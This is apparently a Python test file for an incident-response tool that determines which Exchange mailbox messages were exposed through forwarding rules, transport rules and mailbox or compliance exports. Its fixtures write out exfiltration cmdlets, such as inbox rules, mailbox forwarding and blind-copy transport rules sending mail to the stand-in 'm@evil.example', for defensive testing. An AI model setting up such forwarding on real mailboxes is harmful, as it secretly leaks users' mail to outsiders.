"""Forwarding and exports: R4, R5."""
from contract3.cases import case, same
from small_case import BAD, GOOD, record_id


def forwarded(c, at="2023-05-20T10:00:00", **rule):
    rule.setdefault("ForwardTo", "m@evil.example")
    rule.setdefault("Name", "r")
    return c.cmdlet("New-InboxRule", at, "alice", **rule)


@case
def r4_conditions(c):
    d = "2023-05-21T10:00:00"
    c.mail("alice", "Inbox", "subject@x", d, subject="The INVOICE for May")
    c.mail("alice", "Inbox", "body@x", d, body="see the invoice")
    c.mail("alice", "Inbox", "none@x", d)
    c.mail("alice", "Inbox", "encoded@x", d,
           subject="=?utf-8?B?UmVjaG51bmcgMTI=?=")
    c.mail("alice", "Inbox", "before@x", "2023-05-20T09:59:59",
           subject="invoice")
    c.mail("alice", "Inbox", "at@x", "2023-05-20T10:00:00",
           subject="invoice")
    c.mail("alice", "Sent Items", "sent@x", d, subject="invoice")
    c.mail("alice", "Drafts", "draft@x", d, subject="invoice")
    c.old("bob", "Inbox", "bob@x")
    forwarded(c, SubjectContainsWords="invoice;Rechnung")
    r = c.run()
    got = {m.internet_message_id[1:-3]: m.exposure for m in
           r.table("messages")}
    same({k for k, v in got.items() if v == "taken"},
         {"subject", "encoded", "at"})
    m = r.msg("subject@x")
    same([m.short.split()[1], m.first_access_utc, m.last_access_utc,
          m.access_records, m.flags],
         ["R4", d + "Z", d + "Z", record_id(1), ""])


@case
def r4_all_conditions_any_word_from(c):
    d = "2023-05-21T10:00:00"
    c.mail("alice", "Inbox", "both@x", d, subject="x pay y",
           body="now the bank", sender='"Carla Boss" <boss@y.example>')
    c.mail("alice", "Inbox", "one@x", d, subject="pay",
           sender="boss@y.example")
    c.mail("alice", "Inbox", "other@x", d, subject="pay", body="bank",
           sender="boss@z.example")
    forwarded(c, SubjectContainsWords="salary;PAY", BodyContainsWords="bank",
              From="Boss@y.example")
    r = c.run()
    same({m.internet_message_id for m in r.table("messages")
          if m.exposure == "taken"}, {"<both@x>"})


@case
def r4_display_names_exceptions_and_unknown_conditions(c):
    d = "2023-05-21T10:00:00"
    c.mail("alice", "Inbox", "a@x", d, sender='"Carla Boss" <b@y.example>',
           subject="spam")
    c.mail("alice", "Inbox", "b@x", d)
    forwarded(c, From="Carla Boss", ExceptIfSubjectContainsWords="spam",
              HasAttachment="True")
    r = c.run()
    same(r.msg("a@x").short.split()[0], "taken")
    same(sorted(r.msg("a@x").flags.split("; ")),
         ["condition=ExceptIfSubjectContainsWords",
          "condition=HasAttachment"])
    same(r.msg("b@x").exposure != "taken", True)


@case
def r4_periods(c):
    d = "2023-05-%02dT10:00:00"
    for i in (21, 23, 25, 27, 29):
        c.mail("alice", "Inbox", "%d@x" % i, d % i)
    forwarded(c, at=d % 20, Name="one")
    c.cmdlet("Set-InboxRule", d % 21 + ".5", "alice", ip=GOOD,
             Identity="one", MarkAsRead="True", _ResultStatus="False")
    c.cmdlet("Disable-InboxRule", d % 22, "alice", ip=GOOD, Identity="one")
    c.cmdlet("Remove-InboxRule", d % 20, "alice", ip=GOOD, Identity="two")
    c.cmdlet("Set-Mailbox", d % 24, Identity="alice@x.example",
             ForwardingSmtpAddress="smtp:m@evil.example")
    c.cmdlet("Set-Mailbox", d % 25 + ".5", Identity="alice@x.example",
             Type="Shared")
    c.cmdlet("Set-Mailbox", d % 26, ip=GOOD, Identity="alice@x.example",
             ForwardingSmtpAddress="")
    c.cmdlet("New-InboxRule", d % 28, "alice", ForwardTo="m@evil.example",
             Name="failed", _ResultStatus="False")
    r = c.run()
    same({m.internet_message_id: m.access_records[-2:]
          for m in r.table("messages") if m.exposure == "taken"},
         {"<21@x>": "01", "<25@x>": "05"})


@case
def r4_moves_are_no_forwarding_and_transport_rules_are_everybodys(c):
    d = "2023-05-21T10:00:00"
    c.mail("alice", "Inbox", "a@x", d)
    c.mail("bob", "Inbox", "b@x", "2023-05-23T10:00:00")
    c.cmdlet("New-InboxRule", "2023-05-20T10:00:00", "alice", Name="hide",
             DeleteMessage="True", MoveToFolder="RSS")
    c.cmdlet("New-TransportRule", "2023-05-22T10:00:00", Name="t",
             BlindCopyTo="m@evil.example")
    r = c.run()
    same([r.msg("a@x").exposure, r.msg("b@x").exposure],
         ["not_covered", "taken"])


@case
def r4_update_inbox_rules(c):
    c.mail("alice", "Inbox", "a@x", "2023-05-21T10:00:00")
    c.mail("alice", "Inbox", "b@x", "2023-05-23T10:00:00")
    import json
    actions = json.dumps([{"ActionType": "Forward",
                           "Recipients": ["m@evil.example"]}])

    def rule(at, operation, ip):
        c.record("UpdateInboxRules", at, "alice", ip=ip, OperationProperties=[
            {"Name": "RuleOperation", "Value": operation},
            {"Name": "RuleId", "Value": "77"}, {"Name": "RuleName"},
            {"Name": "RuleState", "Value": "Enabled"},
            {"Name": "RuleActions", "Value": actions}])
    rule("2023-05-20T10:00:00", "AddMailboxRule", BAD)
    rule("2023-05-22T10:00:00", "RemoveMailboxRule", GOOD)
    r = c.run()
    same([r.msg("a@x").exposure, r.msg("b@x").exposure != "taken"],
         ["taken", True])



@case
def r5_mailbox_exports(c):
    for f in ("Inbox", "Inbox/Sub", "Projects", "Projects/X"):
        c.old("alice", f, f.replace("/", "-").lower() + "@x")
    c.mail("alice", "Inbox", "late@x", "2023-05-20T10:00:01")
    c.old("bob", "Inbox", "bob@x")
    c.cmdlet("New-MailboxExportRequest", "2023-05-20T10:00:00",
             Mailbox="alice@x.example", IncludeFolders="#Inbox#;Projects/*",
             FilePath="\\\\h\\p.pst")
    c.cover()
    r = c.run()
    same({m.internet_message_id[1:-3]: m.exposure
          for m in r.table("messages")},
         {"inbox": "taken", "inbox-sub": "not_shown", "projects": "taken",
          "projects-x": "taken", "late": "not_shown", "bob": "not_shown"})
    m = r.msg("inbox@x")
    same([m.short, m.first_access_utc, m.last_access_utc, m.access_records],
         ["taken R5"] + ["2023-05-20T10:00:00Z"] * 2 + [record_id(1)])


@case
def r5_filters_are_flagged_and_failures_take_nothing(c):
    c.old("alice", "Inbox", "a@x")
    c.old("bob", "Inbox", "b@x")
    c.cmdlet("New-MailboxExportRequest", "2023-05-20T10:00:00",
             Mailbox="alice@x.example", ContentFilter="Subject -like 'x'")
    c.cmdlet("New-MailboxExportRequest", "2023-05-20T10:00:00",
             Mailbox="bob@x.example", _ResultStatus="False")
    c.cover()
    r = c.run()
    same([r.msg("a@x").short, r.msg("a@x").flags],
         ["taken R5", "condition=ContentFilter"])
    assert "taken" not in r.msg("b@x").short


@case
def r5_compliance_searches(c):
    for box in ("alice", "bob"):
        c.old(box, "Inbox", box + "@m")
    c.record("SearchCreated", "2023-05-19T10:00:00", type=18, ip=GOOD,
             Workload="SecurityComplianceCenter", ObjectId="case 1",
             Parameters=[{"Name": "Name", "Value": "case 1"},
                         {"Name": "ExchangeLocation",
                          "Value": "alice@x.example"}])
    c.record("SearchExportDownloaded", "2023-05-20T10:00:00", type=24,
             Workload="SecurityComplianceCenter", ObjectId="case 1_Export",
             ClientIP=BAD)
    c.cover()
    r = c.run()
    same([r.msg("alice@m").short, r.msg("bob@m").short],
         ["taken R5", "not_shown"])
    same(r.rec(2)[0].access_type, "export")
    same(len(r.rec(2, "activity")), 1)


@case
def r5_all_locations(c):
    for box in ("alice", "bob"):
        c.old(box, "Inbox", box + "@m")
    c.cmdlet("New-ComplianceSearch", "2023-05-19T10:00:00", ip=GOOD,
             Name="s", ExchangeLocation="All")
    c.cmdlet("New-ComplianceSearchAction", "2023-05-20T10:00:00",
             SearchName="s", Export="True")
    c.cmdlet("New-ComplianceSearchAction", "2023-05-18T10:00:00",
             SearchName="s", Preview="True")
    c.cover()
    r = c.run()
    for box in ("alice", "bob"):
        m = r.msg(box + "@m")
        same([m.short, m.access_records], ["taken R5", record_id(2)])
